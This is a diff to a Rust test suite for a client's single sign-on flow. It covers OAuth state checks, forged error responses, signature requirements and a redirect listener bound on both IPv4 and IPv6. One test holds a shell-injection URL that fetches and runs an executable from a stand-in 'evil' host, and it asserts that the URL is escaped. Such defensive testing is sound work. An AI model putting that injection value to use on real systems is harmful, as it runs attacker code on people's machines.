@@ -119,24 +119,137 @@ fn the_port_can_be_given_and_is_free_again_afterwards() {
 }
 
 #[test]
-fn a_sign_in_works_without_a_state_and_not_with_a_wrong_one() {
+fn what_comes_back_with_a_wrong_state_or_with_none_is_not_taken() {
     let scene = Scene::new();
-    scene.idp(json!({"state": "missing"}));
-    scene.sign_in(Sso::new(), signs_in).0.unwrap();
-    scene.idp(json!({"state": "wrong"}));
-    for response_type in [CODE, TOKEN] {
+    for (state, response_type) in
+        [("wrong", CODE), ("wrong", TOKEN), ("missing", CODE), ("missing", TOKEN)]
+    {
+        scene.idp(json!({"state": state}));
         let sso = Sso::new().response_type(response_type);
         let (licenses, ()) = scene.sign_in(sso, |url| {
-            let wrong = signs_in(url);
-            assert_eq!(wrong.status, 400);
-            assert!(wrong.body.contains("Not this sign-in"), "{wrong:?}");
+            let not_ours = signs_in(url);
+            assert_eq!(not_ours.status, 400);
+            assert!(not_ours.body.contains("Not this sign-in"), "{not_ours:?}");
             // The right one may still come.
             scene.idp(json!({}));
             assert_eq!(signs_in(url).status, 200);
-            scene.idp(json!({"state": "wrong"}));
         });
         licenses.unwrap();
     }
+}
+
+#[test]
+fn a_provider_that_loses_the_state_can_be_put_up_with() {
+    let scene = Scene::new();
+    let lenient = |response_type| {
+        Sso::new()
+            .response_type(response_type)
+            .set(|options| ls_sso_options_set_require_state(options, false))
+    };
+    for response_type in [CODE, TOKEN] {
+        scene.idp(json!({"state": "missing"}));
+        scene.sign_in(lenient(response_type), signs_in).0.unwrap();
+        scene.idp(json!({"state": "wrong"}));
+        let (licenses, ()) = scene.sign_in(lenient(response_type), |url| {
+            assert_eq!(signs_in(url).status, 400);
+            scene.idp(json!({}));
+            assert_eq!(signs_in(url).status, 200);
+        });
+        licenses.unwrap();
+    }
+}
+
+#[test]
+fn an_error_without_a_state_is_shown_and_ends_nothing() {
+    let scene = Scene::new();
+    for require_state in [true, false] {
+        let sso =
+            Sso::new().set(|options| ls_sso_options_set_require_state(options, require_state));
+        let (licenses, ()) = scene.sign_in(sso, |url| {
+            let forged = get(&format!("{}?error=access_denied", redirect_uri(url)));
+            assert_eq!(forged.status, 400);
+            assert!(forged.body.contains("Sign-in not completed"), "{forged:?}");
+            assert_eq!(signs_in(url).status, 200);
+        });
+        licenses.unwrap();
+    }
+}
+
+#[test]
+fn a_page_whose_address_is_not_signed_is_opened_only_if_it_need_not_be() {
+    let scene = Scene::new();
+    let unsigned = json!({"fault": "signature", "how": "missing", "path": "sso_url"});
+    scene.sandbox.fault(unsigned);
+    let mut sso = Sso::new();
+    let failure = scene.client.sso_sign_in(sso.get()).err().unwrap();
+    assert_eq!(failure.status, ls_status::LS_ERR_SIGNATURE, "{failure:?}");
+    assert!(sso.shown().nothing());
+    let lenient =
+        |options: Option<&mut ls_sso_options>| ls_sso_options_set_require_signature(options, false);
+    scene.sign_in(Sso::new().set(lenient), signs_in).0.unwrap();
+    scene.sandbox.no_faults();
+    scene.sandbox.fault(json!({"fault": "signature", "how": "other-key", "path": "sso_url"}));
+    let mut sso = Sso::new().set(lenient);
+    let failure = scene.client.sso_sign_in(sso.get()).err().unwrap();
+    assert_eq!(failure.status, ls_status::LS_ERR_SIGNATURE);
+    assert!(sso.shown().nothing());
+}
+
+/// A port of which this address is free, as is 127.0.0.1.
+fn taken_on_ipv6() -> (std::net::TcpListener, u16) {
+    loop {
+        let other = std::net::TcpListener::bind("[::1]:0").expect("this test needs [::1]");
+        let port = other.local_addr().unwrap().port();
+        if std::net::TcpListener::bind(("127.0.0.1", port)).is_ok() {
+            return (other, port);
+        }
+    }
+}
+
+#[test]
+fn a_redirect_by_name_is_listened_to_on_both_addresses() {
+    let (scene, port) = (Scene::new(), free_port());
+    scene.idp(json!({"redirect_uri": format!("http://localhost:{port}/")}));
+    let (licenses, ()) = scene.sign_in(Sso::new().port(port), |url| {
+        let back = fill_in(url, TRIAL, "sign-in").unwrap();
+        // As a browser goes there: first to the address that anybody else could have listened on.
+        let by_ipv6 = format!("[::1]:{port}");
+        let (_, target) = back.split_once(&format!("localhost:{port}")).unwrap();
+        let request = format!("GET {target} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n");
+        assert_eq!(exchange(&by_ipv6, request.as_bytes()).status, 200);
+    });
+    licenses.unwrap();
+    assert!(!is_open(&format!("[::1]:{port}")), "the listener was left open");
+}
+
+#[test]
+fn a_port_that_somebody_else_has_on_the_other_address_is_noticed_before_a_page_opens() {
+    let scene = Scene::new();
+    let (_other, port) = taken_on_ipv6();
+    scene.idp(json!({"redirect_uri": format!("http://localhost:{port}/")}));
+    let mut sso = Sso::new().port(port);
+    let failure = scene.client.sso_sign_in(sso.get()).err().unwrap();
+    assert_eq!(failure.status, ls_status::LS_ERR_CONFIG);
+    assert!(failure.message.contains("::1"), "{failure:?}");
+    assert!(sso.shown().nothing());
+    // By number nobody goes there.
+    scene.idp(json!({"redirect_uri": format!("http://127.0.0.1:{port}/")}));
+    scene.sign_in(Sso::new().port(port), signs_in).0.unwrap();
+}
+
+#[test]
+fn no_character_of_a_shell_leaves_for_the_browser() {
+    let scene = Scene::new();
+    let url = "https://idp.example.com/?a=$(//evil/s/x.exe);calc&b=(1)'";
+    let fault =
+        json!({"fault": "body", "body": json!({"url": url}).to_string(), "path": "sso_url"});
+    scene.sandbox.fault(fault);
+    let harmless = "https://idp.example.com/?a=%24%28//evil/s/x.exe%29%3Bcalc&b=%281%29%27";
+    assert_eq!(scene.client.sso_url("acme", CODE, None).unwrap(), harmless);
+    let mut sso = Sso::new().timeout_ms(1);
+    let shown = sso.shown();
+    assert!(scene.client.sso_sign_in(sso.get()).is_err());
+    assert!(shown.url().starts_with(&format!("{harmless}&redirect_uri=")));
 }
 
 #[test]
@@ -426,7 +539,7 @@ fn the_servers_answer_is_verified_where_it_is_signed() {
         (json!({"fault": "signature", "how": "other-key"}), Some(LS_ERR_SIGNATURE)),
         (json!({"fault": "signature", "how": "malformed"}), Some(LS_ERR_SIGNATURE)),
         (json!({"fault": "flip", "at": 5}), Some(LS_ERR_SIGNATURE)),
-        // That the service signs this answer is not documented.
+        // The application looks at it before it opens it.
         (json!({"fault": "signature", "how": "missing"}), None),
         (json!({"fault": "html"}), Some(LS_ERR_RESPONSE)),
         (json!({"fault": "body", "body": "{}"}), Some(LS_ERR_RESPONSE)),
